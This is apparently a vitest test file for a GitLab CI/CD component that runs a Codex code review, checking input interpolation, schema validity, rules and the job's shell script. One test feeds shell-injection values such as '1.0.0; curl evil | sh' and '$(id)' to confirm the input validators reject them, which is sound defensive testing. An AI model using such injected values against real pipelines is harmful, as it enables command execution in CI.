// templates/codex-review.yml, the GitLab CI/CD component: its `spec:` header checked the way GitLab
// checks inputs, its job validated against GitLab's CI schema after the inputs are substituted
// the way GitLab substitutes them, and its settings checked against the ones the CLI reads.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Ajv, type ErrorObject, type ValidateFunction } from 'ajv';
import addFormats from 'ajv-formats';
import { parseAllDocuments } from 'yaml';
import { afterAll, describe, expect, it } from 'vitest';
import { envName } from '../../src/cli/options.js';
import {
  EFFORTS,
  FAIL_ON,
  MODES,
  POST_TARGETS,
  SANDBOXES,
  SETTING_DEFINITIONS,
  SETTING_NAMES,
  type SettingName,
} from '../../src/core/settings.js';

const ROOT = path.resolve(import.meta.dirname, '..', '..');
const TEMPLATE = path.join(ROOT, 'templates', 'codex-review.yml');
const SCHEMA = path.join(ROOT, 'test', 'fixtures', 'schemas', 'gitlab-ci.json');
const PACKAGE_VERSION = (
  JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8')) as { version: string }
).version;

type InputType = 'string' | 'number' | 'boolean' | 'array';
type InputValue = string | number | boolean | unknown[];
interface Input {
  type?: InputType;
  default?: InputValue | null;
  description?: string;
  options?: InputValue[];
  regex?: string;
}
interface Job {
  stage: unknown;
  image: unknown;
  rules: { if?: string; when?: string }[];
  variables: Record<string, string | number | boolean | { value: string; expand?: boolean }>;
  script: string[];
  artifacts: {
    when?: string;
    expose_as?: string;
    paths?: string[];
    reports?: Record<string, unknown>;
  };
  [key: string]: unknown;
}

// ---------------------------------------------------------------------------------------------
// The two YAML documents.

const documents = parseAllDocuments(fs.readFileSync(TEMPLATE, 'utf8'));
if (!Array.isArray(documents)) throw new Error('the template is empty');
for (const doc of documents) {
  if (doc.errors.length) throw new Error(`YAML errors: ${doc.errors.map(String).join('\n')}`);
}
const header = documents[0]?.toJS() as { spec: { inputs: Record<string, Input> } };
const jobsTemplate = documents[1]?.toJS() as Record<string, unknown>;
const inputs = header.spec.inputs;

// ---------------------------------------------------------------------------------------------
// GitLab's interpolation (doc/ci/inputs/_index.md): `$[[ inputs.x ]]` in keys and values, after
// YAML parsing. An input that is the entire value keeps its type; inside a longer string it is
// its string form. Functions (`| expand_vars`) are not used by the template, so any `$[[` left
// over is an error, as an unknown input is for GitLab.

const BLOCK = /\$\[\[\s*inputs\.([A-Za-z0-9_-]+)\s*\]\]/g;
const WHOLE = /^\$\[\[\s*inputs\.([A-Za-z0-9_-]+)\s*\]\]$/;

function interpolate(node: unknown, values: Record<string, InputValue>): unknown {
  const text = (s: string): string =>
    s.replace(BLOCK, (_block, name: string) => {
      if (!(name in values)) throw new Error(`unknown input "${name}"`);
      const value = values[name]!;
      return Array.isArray(value) ? JSON.stringify(value) : String(value);
    });
  if (typeof node === 'string') {
    const whole = WHOLE.exec(node);
    if (whole) {
      if (!(whole[1]! in values)) throw new Error(`unknown input "${whole[1]}"`);
      return values[whole[1]!];
    }
    const out = text(node);
    if (out.includes('$[[')) throw new Error(`uninterpolated block in ${JSON.stringify(node)}`);
    return out;
  }
  if (Array.isArray(node)) return node.map((v) => interpolate(v, values));
  if (node !== null && typeof node === 'object') {
    return Object.fromEntries(
      Object.entries(node).map(([k, v]) => [text(k), interpolate(v, values)]),
    );
  }
  return node;
}

/** The inputs' defaults, overridden by `given`, after GitLab's checks of each value. */
function inputValues(given: Record<string, InputValue> = {}): Record<string, InputValue> {
  for (const name of Object.keys(given)) {
    if (!(name in inputs)) throw new Error(`unknown input "${name}"`);
  }
  const values: Record<string, InputValue> = {};
  for (const [name, input] of Object.entries(inputs)) {
    const value = name in given ? given[name] : input.default;
    if (value === undefined || value === null) throw new Error(`input "${name}" is mandatory`);
    const problems = valueProblems(input, value);
    if (problems.length) throw new Error(`input "${name}": ${problems.join('; ')}`);
    values[name] = value;
  }
  return values;
}

/** What GitLab rejects in an input value (spec:inputs:type, options and regex). */
function valueProblems(input: Input, value: InputValue): string[] {
  const problems: string[] = [];
  const type = input.type ?? 'string';
  const actual = Array.isArray(value) ? 'array' : typeof value;
  if (actual !== type) problems.push(`${JSON.stringify(value)} is not a ${type}`);
  if (input.options && !input.options.includes(value)) {
    problems.push(`${JSON.stringify(value)} is not one of ${JSON.stringify(input.options)}`);
  }
  // GitLab matches with RE2; the template's patterns mean the same in JavaScript.
  if (input.regex !== undefined && !new RegExp(input.regex).test(String(value))) {
    problems.push(`${JSON.stringify(value)} does not match ${input.regex}`);
  }
  return problems;
}

const jobsWith = (given: Record<string, InputValue> = {}) =>
  interpolate(jobsTemplate, inputValues(given)) as Record<string, Job>;
const onlyJob = (jobs: Record<string, Job>): [string, Job] => {
  const entries = Object.entries(jobs);
  expect(entries).toHaveLength(1);
  return entries[0]!;
};

// ---------------------------------------------------------------------------------------------
// GitLab's CI schema (draft-07).

function compileSchema(): ValidateFunction {
  const schema = JSON.parse(fs.readFileSync(SCHEMA, 'utf8')) as Record<string, unknown>;
  expect(schema.$schema).toBe('http://json-schema.org/draft-07/schema#');
  // The schema uses keywords (markdownDescription) that Ajv's strict mode rejects.
  const ajv = new Ajv({ allErrors: true, strict: false });
  addFormats.default(ajv);
  return ajv.compile(schema);
}
const validateCi = compileSchema();
const GLOBAL_KEYWORDS = Object.keys(
  (JSON.parse(fs.readFileSync(SCHEMA, 'utf8')) as { properties: Record<string, unknown> })
    .properties,
);

function schemaErrors(data: unknown): string[] {
  if (validateCi(data)) return [];
  return (validateCi.errors ?? []).map(
    (e: ErrorObject) => `${e.instancePath || '/'} ${e.message ?? ''} ${JSON.stringify(e.params)}`,
  );
}

/**
 * Checks GitLab makes that the schema does not: a variable's value is a string or an integer
 * (AlphanumericValidator in lib/gitlab/config/entry/validators.rb), and a `rules:if` is a
 * well-formed expression — comparisons of variables and quoted strings joined by && or || (the
 * pitfall doc/ci/inputs/_index.md warns about: an input that leaves an unquoted word).
 */
function gitlabErrors(job: Job): string[] {
  const errors: string[] = [];
  for (const [key, value] of Object.entries(job.variables)) {
    const raw = typeof value === 'object' ? value.value : value;
    if (typeof raw !== 'string' && !(typeof raw === 'number' && Number.isInteger(raw))) {
      errors.push(`variables.${key}: ${JSON.stringify(raw)} must be a string or an integer`);
    }
  }
  const operand = String.raw`(?:\$[A-Za-z_][A-Za-z0-9_]*|"[^"]*"|'[^']*')`;
  const comparison = String.raw`${operand}\s*(?:==|!=)\s*${operand}`;
  const expression = new RegExp(
    String.raw`^\s*${comparison}(?:\s*(?:&&|\|\|)\s*${comparison})*\s*$`,
  );
  for (const rule of job.rules) {
    if (rule.if !== undefined && !expression.test(rule.if)) {
      errors.push(`rules:if is not a valid expression: ${rule.if}`);
    }
  }
  return errors;
}

/** A set of values different from every default, including characters that need care. */
const CUSTOM: Record<string, InputValue> = {
  stage: 'review',
  'job-prefix': 'audit-',
  version: '1.2.3-rc.1',
  image: 'registry.example.com/mirror/node:24-slim',
  'merge-requests': false,
  schedules: true,
  mode: 'exec',
  model: 'gpt-5-codex',
  effort: 'high',
  sandbox: 'workspace-write',
  prompt: 'Audit for "injection" and `eval`.\nIgnore $HOME; it\'s fine: #1 & <2>.',
  'prompt-file': '.gitlab/codex-prompt.md',
  post: 'issue',
  'min-priority': 0,
  'max-inline-comments': 10,
  'fail-on': 'p1',
  'token-variable': 'CODEX_BOT_TOKEN',
  'codex-args': '["-c", "model_verbosity=\\"low\\""]',
};

// ---------------------------------------------------------------------------------------------

describe('the spec header', () => {
  it('is the first of two YAML documents and holds only spec:inputs', () => {
    expect(documents).toHaveLength(2);
    expect(Object.keys(header)).toEqual(['spec']);
    expect(Object.keys(header.spec)).toEqual(['inputs']);
    expect(schemaErrors(header)).toEqual([]);
  });

  it('declares the inputs the component promises', () => {
    expect(Object.keys(inputs)).toEqual(
      expect.arrayContaining([
        'stage',
        'job-prefix',
        'version',
        'mode',
        'model',
        'effort',
        'sandbox',
        'prompt',
        'min-priority',
        'max-inline-comments',
        'fail-on',
        'token-variable',
        'codex-args',
      ]),
    );
  });

  it.each(Object.entries(inputs))(
    '%s: has a type, a description and a default GitLab accepts',
    (_name, input) => {
      expect(['string', 'number', 'boolean', 'array']).toContain(input.type);
      expect(input.description?.trim()).toBeTruthy();
      // No mandatory inputs: a merge request pipeline cannot ask for a value.
      expect(input.default).not.toBeUndefined();
      expect(input.default).not.toBeNull();
      expect(valueProblems(input, input.default!)).toEqual([]);
      for (const option of input.options ?? []) expect(valueProblems(input, option)).toEqual([]);
    },
  );

  it('defaults to the stage test, the token in GITLAB_TOKEN and the package version', () => {
    expect(inputs.stage!.default).toBe('test');
    expect(inputs['token-variable']!.default).toBe('GITLAB_TOKEN');
    expect(inputs.version!.default).toBe(PACKAGE_VERSION);
    expect(inputs.image!.default).toBe('node:24');
  });

  it('has the defaults and allowed values of the settings behind the inputs', () => {
    const settingOf: Record<string, SettingName> = {
      mode: 'mode',
      model: 'model',
      effort: 'effort',
      sandbox: 'sandbox',
      prompt: 'prompt',
      'prompt-file': 'prompt-file',
      post: 'post',
      'min-priority': 'min-priority',
      'max-inline-comments': 'max-inline-comments',
      'fail-on': 'fail-on',
      'codex-args': 'codex-args',
    };
    for (const [input, setting] of Object.entries(settingOf)) {
      expect(String(inputs[input]!.default), input).toBe(SETTING_DEFINITIONS[setting].default);
    }
    // The component's job runs Codex; `merge` is a job of its own (README: sharded audits).
    expect(inputs.mode!.options).toEqual(MODES.filter((m) => m !== 'merge'));
    expect(inputs.sandbox!.options).toEqual([...SANDBOXES]);
    expect(inputs.post!.options).toEqual([...POST_TARGETS]);
    expect(inputs['fail-on']!.options).toEqual([...FAIL_ON]);
    expect(inputs.effort!.options).toEqual(['', ...EFFORTS]);
  });

  it('rejects values that would break the job name or the shell script', () => {
    expect(valueProblems(inputs.version!, '1.0.0; curl evil | sh')).not.toEqual([]);
    expect(valueProblems(inputs.version!, '$(id)')).not.toEqual([]);
    expect(valueProblems(inputs['token-variable']!, 'A B')).not.toEqual([]);
    expect(valueProblems(inputs['token-variable']!, "X'; id; '")).not.toEqual([]);
    expect(valueProblems(inputs['job-prefix']!, '.hidden-')).not.toEqual([]);
    expect(valueProblems(inputs['job-prefix']!, 'a b')).not.toEqual([]);
    for (const version of ['0.1.0', '1', '1.2', '2.0.0-beta.1', 'latest']) {
      expect(valueProblems(inputs.version!, version)).toEqual([]);
    }
  });

  it('uses every input it declares, and declares every input it uses', () => {
    const text = fs.readFileSync(TEMPLATE, 'utf8').split(/^---$/m)[1]!;
    const used = new Set([...text.matchAll(BLOCK)].map((m) => m[1]!));
    expect([...used].sort()).toEqual(Object.keys(inputs).sort());
  });
});

describe.each([
  ['the defaults', {}],
  ['custom values', CUSTOM],
])('the job with %s', (_name, given: Record<string, InputValue>) => {
  const jobs = jobsWith(given);
  const [name, job] = onlyJob(jobs);
  const values = inputValues(given);

  it('validates against GitLab’s CI schema and GitLab’s own checks', () => {
    expect(schemaErrors(jobs)).toEqual([]);
    expect(gitlabErrors(job)).toEqual([]);
  });

  it('is one visible job named with the prefix, and no global keyword', () => {
    expect(name).toBe(`${String(values['job-prefix'])}codex-review`);
    expect(name.startsWith('.')).toBe(false);
    for (const key of Object.keys(jobs)) expect(GLOBAL_KEYWORDS).not.toContain(key);
    expect(job.stage).toBe(values.stage);
    expect(job.image).toBe(values.image);
  });

  it('runs in merge request pipelines (not merge trains) and, when asked, in schedules', () => {
    const ifs = job.rules.map((r) => r.if);
    expect(job.rules[0]).toEqual({
      if: '$CI_MERGE_REQUEST_EVENT_TYPE == "merge_train"',
      when: 'never',
    });
    const mr = ifs.find((i) => i?.includes('$CI_PIPELINE_SOURCE == "merge_request_event"'));
    const schedule = ifs.find((i) => i?.includes('$CI_PIPELINE_SOURCE == "schedule"'));
    expect(mr).toBe(
      `$CI_PIPELINE_SOURCE == "merge_request_event" && "${String(values['merge-requests'])}" == "true"`,
    );
    expect(schedule).toBe(
      `$CI_PIPELINE_SOURCE == "schedule" && "${String(values.schedules)}" == "true"`,
    );
    // No other pipeline source (branch, tag, web, API, …) runs the job.
    expect(job.rules.filter((r) => r.when !== 'never')).toHaveLength(2);
  });

  it('fetches the whole history, with job-level variables only', () => {
    expect(job.variables.GIT_DEPTH).toBe('0');
  });

  it('passes settings only as CODEX_REVIEW_* variables the CLI knows', () => {
    const text = JSON.stringify(job);
    const used = new Set([...text.matchAll(/CODEX_REVIEW_[A-Z0-9_]+/g)].map((m) => m[0]));
    const known = new Map(SETTING_NAMES.map((s) => [envName(s), s]));
    for (const variable of used) expect(known.has(variable), variable).toBe(true);
    const variable = (setting: SettingName) => {
      const value = job.variables[envName(setting)];
      return typeof value === 'object' ? value.value : value;
    };
    expect(variable('mode')).toBe(values.mode);
    expect(variable('model')).toBe(values.model);
    expect(variable('effort')).toBe(values.effort);
    expect(variable('sandbox')).toBe(values.sandbox);
    expect(variable('prompt')).toBe(values.prompt);
    expect(variable('prompt-file')).toBe(values['prompt-file']);
    expect(variable('post')).toBe(values.post);
    expect(variable('min-priority')).toBe(values['min-priority']);
    expect(variable('max-inline-comments')).toBe(values['max-inline-comments']);
    expect(variable('fail-on')).toBe(values['fail-on']);
    expect(variable('codex-args')).toBe(values['codex-args']);
    expect(variable('codequality-file')).toBe('gl-codequality.json');
    // Free text is passed verbatim, not expanded as variable references.
    expect(job.variables[envName('prompt')]).toMatchObject({ expand: false });
    expect(job.variables[envName('codex-args')]).toMatchObject({ expand: false });
    // The token never appears in the configuration, only the name of its variable.
    expect(job.variables).not.toHaveProperty(envName('gitlab-token'));
    expect(job.variables).not.toHaveProperty(envName('openai-api-key'));
  });

  it('declares the Code Quality report and keeps the findings file, also when the job fails', () => {
    expect(job.artifacts.when).toBe('always');
    expect(job.artifacts.expose_as).toBe(`${String(values['job-prefix'])}codex-review findings`);
    expect(job.artifacts.reports).toEqual({ codequality: 'gl-codequality.json' });
    const findingsFile = /--findings-file (\S+)/.exec(job.script.join('\n'))?.[1];
    expect(findingsFile).toBeDefined();
    expect(
      job.artifacts.paths!.some((p) => p === findingsFile || findingsFile!.startsWith(p)),
    ).toBe(true);
  });

  it('runs the pinned package through npx with the token from the named variable', () => {
    expect(job.script.join('\n')).toContain(
      `npx --yes 'codex-review@${String(values.version)}' gitlab`,
    );
    const run = runScript(job.script, {
      [String(values['token-variable'])]: 'glpat-token-from-the-named-variable',
    });
    expect(run.status).toBe(0);
    expect(run.npxArgs).toEqual([
      '--yes',
      `codex-review@${String(values.version)}`,
      'gitlab',
      '--findings-file',
      'codex-review/findings.json',
    ]);
    expect(run.gitlabToken).toBe('glpat-token-from-the-named-variable');
  });

  it('still reaches the CLI (which explains what is missing) when the token variable is unset', () => {
    const run = runScript(job.script, {});
    expect(run.status).toBe(0);
    expect(run.gitlabToken).toBe('');
    expect(run.npxArgs).toContain('gitlab');
  });
});

describe('the inputs in rules', () => {
  it('turn merge request reviews off and schedules on', () => {
    const [, job] = onlyJob(jobsWith({ 'merge-requests': false, schedules: true }));
    expect(job.rules.map((r) => r.if)).toEqual([
      '$CI_MERGE_REQUEST_EVENT_TYPE == "merge_train"',
      '$CI_PIPELINE_SOURCE == "merge_request_event" && "false" == "true"',
      '$CI_PIPELINE_SOURCE == "schedule" && "true" == "true"',
    ]);
  });
});

// ---------------------------------------------------------------------------------------------
// The script lines run by a POSIX shell (GitLab runs them in one shell session, stopping at the
// first failing line), with `npx` replaced by a stub that records its arguments and the token.

const tempDirs: string[] = [];
afterAll(() => {
  for (const dir of tempDirs) fs.rmSync(dir, { recursive: true, force: true });
});

function runScript(
  script: string[],
  env: Record<string, string>,
): { status: number | null; npxArgs: string[]; gitlabToken: string | undefined } {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gitlab-template-'));
  tempDirs.push(dir);
  const bin = path.join(dir, 'bin');
  fs.mkdirSync(bin);
  const record = path.join(dir, 'npx.json');
  fs.writeFileSync(
    path.join(bin, 'npx'),
    `#!/bin/sh\n${JSON.stringify(process.execPath)} -e 'require("fs").writeFileSync(process.argv[1], JSON.stringify({ args: process.argv.slice(2), token: process.env.GITLAB_TOKEN }))' ${JSON.stringify(record)} "$@"\n`,
    { mode: 0o755 },
  );
  const shell = ['set -e', ...script].join('\n');
  const result = spawnSync('/bin/sh', ['-c', shell], {
    cwd: dir,
    env: { PATH: `${bin}:/usr/bin:/bin`, ...env },
    encoding: 'utf8',
  });
  if (result.status !== 0) throw new Error(`script failed: ${result.stderr}`);
  const recorded = JSON.parse(fs.readFileSync(record, 'utf8')) as {
    args: string[];
    token?: string;
  };
  return { status: result.status, npxArgs: recorded.args, gitlabToken: recorded.token };
}
